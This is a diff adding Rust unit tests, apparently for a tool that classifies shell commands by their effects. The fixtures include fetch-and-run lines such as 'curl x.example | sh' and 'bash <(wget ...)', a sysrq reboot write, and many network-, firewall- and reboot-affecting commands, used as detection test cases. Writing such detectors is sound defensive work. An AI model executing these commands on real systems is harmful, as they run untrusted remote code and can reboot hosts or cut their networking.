@@ -148,3 +148,182 @@ fn files_that_a_command_names() {
         [""; 0]
     );
 }
+
+#[test]
+fn what_a_variable_is_given_is_a_mention() {
+    let told = |text: &str| -> Vec<(String, bool)> {
+        let effects = read(text).effects.into_iter();
+        effects
+            .map(|((_, name), place)| (name, place.mentioned))
+            .collect()
+    };
+    for line in [
+        "RUN=\"apt-get -y upgrade\"",
+        "export RUN=apt-get",
+        "  RUN='apt-get'  ",
+        "RUN=/usr/bin/apt-get",
+    ] {
+        assert_eq!(told(line), [("apt-get".to_owned(), true)], "{line}");
+    }
+    for line in [
+        "RUN=x apt-get upgrade",
+        "RUN=\"x y\" apt-get upgrade",
+        "RUN=\"$(apt-get upgrade)\"",
+        "${APT:-apt-get} upgrade",
+        "RUN=\"apt-get upgrade\"\napt-get upgrade",
+    ] {
+        assert_eq!(told(line), [("apt-get".to_owned(), false)], "{line}");
+    }
+    for line in [
+        "MARK=\"# apt-get begins\"",
+        "apt_get=apt",
+        "snap=\"${NAME}.x\"; echo \"/dev/${snap}\"",
+    ] {
+        let runs: Vec<_> = told(line)
+            .into_iter()
+            .filter(|(_, mentioned)| !mentioned)
+            .collect();
+        assert_eq!(runs, [], "{line}");
+    }
+}
+
+#[test]
+fn code_from_elsewhere_is_known_by_how_it_is_run() {
+    for (line, name) in [
+        ("curl -fsSL https://x.example | sh", "curl | sh"),
+        ("wget -qO- x.example | sudo -E bash -s -- --now", "wget | bash"),
+        ("curl x.example | gunzip | /bin/sh", "curl | sh"),
+        ("curl x.example | python3 -", "curl | python3"),
+        ("sh -c \"$(curl -fsSL x.example)\"", "sh $(curl)"),
+        ("bash <(wget -O- x.example)", "bash $(wget)"),
+        ("eval \"$(curl x.example)\"", "eval $(curl)"),
+        ("echo 'curl x.example | sh' | at now", "curl | sh"),
+        ("sh -c 'curl x.example | sh'", "curl | sh"),
+    ] {
+        assert_eq!(found(line), [(Effect::Code, name.to_owned())], "{line}");
+    }
+    for line in [
+        "curl -o /tmp/x x.example",
+        "curl x.example || sh /opt/mend",
+        "X=$(curl x.example)",
+        "curl x.example | python3 -m json.tool",
+        "curl x.example | perl -ne 'print'",
+        "curl x.example | jq .",
+        "curl x.example; sh -c true",
+    ] {
+        assert_eq!(names(line), [""; 0], "{line}");
+    }
+}
+
+#[test]
+fn what_is_written_to_files_of_the_kernel_counts() {
+    for (line, effect, name) in [
+        (
+            "echo b > /proc/sysrq-trigger",
+            Effect::Reboot,
+            "write to /proc/sysrq-trigger",
+        ),
+        (
+            "echo 0 >/proc/sys/net/ipv4/ip_forward; true",
+            Effect::Network,
+            "write to /proc/sys/net/ipv4/ip_forward",
+        ),
+        (
+            "echo 1 | tee /sys/class/net/eth0/device/reset",
+            Effect::Network,
+            "write to /sys/class/net/eth0/device/reset",
+        ),
+    ] {
+        assert_eq!(found(line), [(effect, name.to_owned())], "{line}");
+    }
+    assert_eq!(
+        names("cat /proc/sys/net/ipv4/ip_forward >/tmp/x; cat </proc/sysrq-trigger"),
+        [""; 0]
+    );
+}
+
+#[test]
+fn programs_by_what_they_are_told_to_do() {
+    for line in [
+        "conntrack -F",
+        "conntrack -D -s 10.0.0.1",
+        "killall -9 dhclient",
+        "pkill -f systemd-networkd",
+        "killall systemd-network",
+        "docker restart web",
+        "podman stop -a",
+        "nerdctl rm -f x",
+        "crictl stopp x",
+        "modprobe -r nf_conntrack",
+        "rmmod br_netfilter",
+        "netplan apply",
+        "ifreload -a",
+        "nmcli con up x",
+        "networkctl reconfigure eth0",
+        "ethtool -K eth0 tso off",
+        "ethtool -s eth0 speed 1000",
+        "tc qdisc replace dev eth0 root fq",
+        "bpftool net detach xdp dev eth0",
+        "ip link set eth0 down",
+        "ip xfrm state flush",
+        "iptables-restore /etc/x",
+        "nft -f /etc/x",
+        "nft flush ruleset",
+        "ipset destroy",
+        "ufw --force enable",
+        "firewall-cmd --reload",
+        "firewall-cmd --permanent --add-service=http",
+        "kexec -e",
+        "init 6",
+        "busctl call org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager Reboot b 0",
+        "needrestart -r a",
+        "snap refresh",
+        "flatpak update -y",
+        "fwupdmgr update",
+        "pip install -U x",
+        "kubectl drain x",
+        "ansible-pull -U x",
+        "wg-quick up wg0",
+        "systemctl isolate rescue.target",
+        "systemctl disable --now systemd-networkd",
+        "systemctl start reboot.target",
+        "sysctl -w net.ipv4.conf.${i}.rp_filter=0",
+        "pacman -Syu",
+    ] {
+        assert_eq!(names(line).len(), 1, "{line}: {:?}", names(line));
+    }
+    for line in [
+        "conntrack -L",
+        "killall -HUP rsyslogd",
+        "docker ps",
+        "docker inspect x",
+        "crictl pods",
+        "modprobe overlay",
+        "netplan get",
+        "nmcli device status",
+        "networkctl status",
+        "ethtool -k eth0",
+        "ethtool -S eth0",
+        "tc -s qdisc show",
+        "bpftool net",
+        "ip xfrm state",
+        "nft list ruleset",
+        "ipset list",
+        "ufw status",
+        "firewall-cmd --state",
+        "init q",
+        "needrestart -b",
+        "snap list",
+        "flatpak list",
+        "fwupdmgr refresh",
+        "pip list",
+        "kubectl get pods",
+        "sysctl -w vm.swappiness=1",
+        "systemctl enable systemd-networkd",
+        "systemctl restart rsyslog",
+        "iptables -nvL",
+        "rpm -qa",
+    ] {
+        assert_eq!(names(line), [""; 0], "{line}");
+    }
+}
